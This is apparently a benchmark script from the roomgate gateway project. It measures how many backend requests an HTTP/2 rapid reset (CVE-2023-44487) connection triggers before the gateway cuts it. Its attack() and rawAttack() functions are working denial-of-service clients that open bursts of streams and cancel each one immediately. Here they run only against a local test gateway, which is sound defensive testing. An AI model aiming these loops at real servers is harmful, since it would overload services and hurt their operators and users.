/**
 * HTTP/2 rapid reset (CVE-2023-44487): how much backend work one attacking connection starts
 * before roomgate cuts it.
 *
 *   npm run build && node dist/bench/h2-rapid-reset.js [--client node|raw] [--gateway-log] [--connections 5] [--streams 20000] [--burst 20] [--backend-ms 20] [--http2 '{"maxResets":100}']
 *
 * One roomgate process (TLS, h2 on, pinned to CPU 0) in front of a counting node:http backend
 * (this process), which answers every request after `--backend-ms`. Each attacking
 * connection is a node:http2 client that opens `--burst` GET streams, lets them go out (one
 * turn of the event loop) and resets them all (RST_STREAM CANCEL), again and again, until the
 * gateway sends GOAWAY or `--streams` were opened. The figure: backend requests that arrived
 * for that connection (counted until, 1 s after the cut at least, the backend was quiet for 500 ms), and
 * the GOAWAY's error code. `--http2` is merged into the gateway's `http2` section (e.g. the
 * reset budget); `--gateway-log` prints the gateway's last log lines (debug level). `--client raw`
 * writes the frames by hand instead (below). Asserts nothing.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import http2 from 'node:http2';
import type { AddressInfo } from 'node:net';
import { cpus } from 'node:os';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import { benchCertificate } from './suite/cert.js';
import { cleanupAll, freePort, removeDir, startProc, stopProc, tempDir, waitLine } from './suite/procs.js';
import { ROOMGATE_MAIN, roomgateNodeArgs } from './suite/proxies.js';
import { median } from './suite/stats.js';
import { ERROR, get, RawH2 } from '../test/support/h2-raw.js';

const say = (line = ''): boolean => process.stdout.write(`${line}\n`);
const { NGHTTP2_CANCEL, NGHTTP2_ENHANCE_YOUR_CALM } = http2.constants;

interface Attack {
  readonly opened: number;
  readonly backendRequests: number;
  /** The GOAWAY's error code, or null when the connection was never cut. */
  readonly goaway: number | null;
  /** The client session's error, if it had one. */
  readonly error: string;
}

/** A node:http backend that counts the requests it got and answers each after `delayMs`. */
function countingBackend(delayMs: number): { server: http.Server; count: () => number; quietFor: () => number } {
  let n = 0;
  let last = Date.now();
  const server = http.createServer((req, res) => {
    n++;
    last = Date.now();
    req.resume();
    setTimeout(() => res.end('ok'), delayMs).unref();
  });
  return { server, count: () => n, quietFor: () => Date.now() - last };
}

const turn = (): Promise<void> => new Promise((resolve) => setImmediate(resolve));

/** One attacking connection; resolves once it was cut (or gave up) and the backend went quiet. */
async function attack(port: number, ca: Buffer, backend: ReturnType<typeof countingBackend>, streams: number, burst: number): Promise<Attack> {
  const before = backend.count();
  const s = http2.connect(`https://bench.test:${port}`, { ca, servername: 'bench.test', host: '127.0.0.1' } as http2.SecureClientSessionOptions);
  let error = '';
  s.on('error', (err: NodeJS.ErrnoException) => (error ||= err.code ?? err.message));
  let goaway: number | null = null;
  let closed = false;
  s.on('goaway', (code: number) => (goaway ??= code));
  s.on('close', () => (closed = true));
  await new Promise<void>((resolve, reject) => {
    const t = setTimeout(() => reject(new Error('h2 connect timed out')), 10_000);
    s.once('connect', () => (clearTimeout(t), resolve()));
  });
  let opened = 0;
  while (opened < streams && goaway === null && !closed) {
    const batch: http2.ClientHttp2Stream[] = [];
    for (let i = 0; i < burst && opened < streams; i++, opened++) {
      const st = s.request({ ':path': `/page/${opened}?room=flood-${opened % 13}` });
      st.on('error', () => undefined);
      batch.push(st);
    }
    // The HEADERS go out on this turn; the RST_STREAMs right behind them.
    await turn();
    for (const st of batch) st.close(NGHTTP2_CANCEL);
    await turn();
  }
  await settled(() => goaway !== null || closed);
  s.destroy();
  await quiet(backend);
  return { opened, backendRequests: backend.count() - before, goaway, error };
}

/**
 * The same attack with frames written by hand (test/support/h2-raw.ts): each HEADERS followed at
 * once by its RST_STREAM, `burst` pairs per turn, as an attacker's own client does (node:http2
 * waits for the server's stream limit; this does not).
 */
async function rawAttack(port: number, backend: ReturnType<typeof countingBackend>, streams: number, burst: number): Promise<Attack> {
  const before = backend.count();
  const c = await RawH2.open(port, 10_000);
  let opened = 0;
  while (opened < streams && c.goawayCode() === undefined && !c.closed) {
    for (let i = 0; i < burst && opened < streams; i++, opened++) c.reset(c.headers(get(`/page/${opened}?room=flood-${opened % 13}`), true), ERROR.CANCEL);
    // As fast as the gateway reads, no faster: frames piling up here would count as sent.
    if (c.socket.writableNeedDrain) await settled(() => !c.socket.writableNeedDrain || c.closed);
    else await turn();
  }
  await settled(() => c.goawayCode() !== undefined || c.closed);
  const goaway = c.goawayCode() ?? null;
  c.close();
  await quiet(backend);
  return { opened, backendRequests: backend.count() - before, goaway, error: '' };
}

/** Until `done()` holds, at most 2 s (the GOAWAY of a connection cut may still be on its way). */
async function settled(done: () => boolean): Promise<void> {
  const deadline = Date.now() + 2_000;
  while (!done() && Date.now() < deadline) await new Promise((r) => setTimeout(r, 5));
}

/** At least 1 s, then until the backend had no request for 500 ms (at most 10 s): the last requests of a connection have arrived. */
async function quiet(backend: ReturnType<typeof countingBackend>): Promise<void> {
  const deadline = Date.now() + 10_000;
  await new Promise((r) => setTimeout(r, 1_000));
  while (backend.quietFor() < 500 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
}

/** One ordinary request first: the backend is known up and its first connections are made before any attack. */
async function warmUp(port: number, ca: Buffer): Promise<void> {
  const s = http2.connect(`https://bench.test:${port}`, { ca, servername: 'bench.test', host: '127.0.0.1' } as http2.SecureClientSessionOptions);
  try {
    const status = await new Promise<number>((resolve, reject) => {
      const t = setTimeout(() => reject(new Error('warm-up request timed out')), 10_000);
      s.on('error', reject);
      const st = s.request({ ':path': '/page/warm-up?room=warm-up' });
      st.on('response', (h) => (clearTimeout(t), resolve(Number(h[':status']))));
      st.resume();
    });
    if (status !== 200) throw new Error(`warm-up request answered ${status}`);
  } finally {
    s.destroy();
  }
}

function cpuModel(): string {
  const line = readFileSync('/proc/cpuinfo', 'utf8')
    .split('\n')
    .find((l) => l.startsWith('model name'));
  return line?.split(':')[1]?.trim() ?? cpus()[0]?.model ?? 'unknown';
}

async function main(): Promise<void> {
  const { values } = parseArgs({
    options: {
      connections: { type: 'string', default: '5' },
      streams: { type: 'string', default: '20000' },
      burst: { type: 'string', default: '20' },
      'backend-ms': { type: 'string', default: '20' },
      http2: { type: 'string', default: '{}' },
      client: { type: 'string', default: 'node' },
      'gateway-log': { type: 'boolean', default: false },
    },
  });
  const dir = tempDir('roomgate-bench-rapid-reset-');
  const { cert, key } = benchCertificate(dir, 'bench.test');
  const ca = readFileSync(cert);
  const backend = countingBackend(Number(values['backend-ms']));
  await new Promise<void>((resolve) => backend.server.listen(0, '127.0.0.1', resolve));
  const port = await freePort();
  const config = join(dir, 'roomgate.yaml');
  const http2Section = { enabled: true, ...(JSON.parse(values.http2) as Record<string, unknown>) };
  writeFileSync(
    config,
    JSON.stringify({
      listen: { host: '127.0.0.1', port },
      admin: { enabled: false },
      backends: [{ id: 'b1', url: `http://127.0.0.1:${(backend.server.address() as AddressInfo).port}` }],
      health: { path: null },
      // info: the 'listening' line this waits for.
      log: { level: values['gateway-log'] ? 'debug' : 'info' },
      shutdown: { graceMs: 500 },
      tls: { certs: [{ cert, key }] },
      http2: http2Section,
    }),
  );
  const proc = startProc('roomgate', process.execPath, [...roomgateNodeArgs(), ROOMGATE_MAIN, 'start', '--config', config], {
    cpu: '0',
    env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: dir, ROOMGATE_COOKIE_SECRETS: 'bench-rapid-reset-0123456789abcdef', NODE_ENV: 'production' },
  });
  const rows: Attack[] = [];
  try {
    await waitLine(proc, 'roomgate listening', (l) => l.includes('"msg":"listening"'), 20_000);
    await warmUp(port, ca);
    for (let i = 1; i <= Number(values.connections); i++) {
      const streams = Number(values.streams);
      const burst = Number(values.burst);
      const a = values.client === 'raw' ? await rawAttack(port, backend, streams, burst) : await attack(port, ca, backend, streams, burst);
      rows.push(a);
      const why = a.goaway === null ? `never cut${a.error ? ` (${a.error})` : ''}` : a.goaway === NGHTTP2_ENHANCE_YOUR_CALM ? 'GOAWAY ENHANCE_YOUR_CALM' : `GOAWAY code ${a.goaway}`;
      say(`[connection ${i}] ${a.opened} streams sent and reset, ${a.backendRequests} backend requests, ${why}`);
    }
    if (values['gateway-log']) for (const l of proc.output) say(l);
  } finally {
    await stopProc(proc);
    await cleanupAll();
    backend.server.closeAllConnections();
    backend.server.close();
    removeDir(dir);
  }
  const cut = rows.filter((r) => r.goaway === NGHTTP2_ENHANCE_YOUR_CALM).length;
  say(`\n${cpuModel()}; http2 ${JSON.stringify(http2Section)}; ${values.client} client, bursts of ${values.burst}, backend answers after ${values['backend-ms']} ms\n`);
  say('| connections cut | streams sent per connection (median) | backend requests per connection (median, max) |\n|---|---:|---:|');
  say(`| ${cut} of ${rows.length} | ${median(rows.map((r) => r.opened))} | ${median(rows.map((r) => r.backendRequests))}, ${Math.max(...rows.map((r) => r.backendRequests))} |`);
}

await main();
